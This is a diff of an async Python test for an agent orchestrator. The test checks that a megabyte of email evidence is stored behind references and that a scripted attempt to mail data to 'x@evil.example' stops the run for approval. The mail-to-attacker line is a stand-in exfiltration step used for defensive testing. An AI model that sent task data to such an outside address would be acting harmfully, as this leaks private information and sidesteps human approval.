@@ -359,7 +359,8 @@ async def test_a_megabyte_of_evidence_is_behind_references(
     known.items = [knowledge.hit(f"{number} " + "x" * 100_000, f"email::{number}") for number in range(10)]
     fake.set_script(script({**MAIL, "to": ["x@evil.example"]}))
     store.remember(task.memory(content=ORDER))
-    one = delegating(task, outside, JERVIS_CONTEXT_CHARS="2000000", JERVIS_NUM_CTX="65536")
+    # No window is set, which would bound the evidence to two characters for each of its tokens.
+    one = delegating(task, outside, JERVIS_CONTEXT_CHARS="2000000")
     assert (await one.run()).message["exitReason"] == "NeedsApproval"
     stored = store.all("orchestrator_artifacts", taskUid=task.uid)
     assert sum(len(each["body"]) for each in stored) > 1_000_000
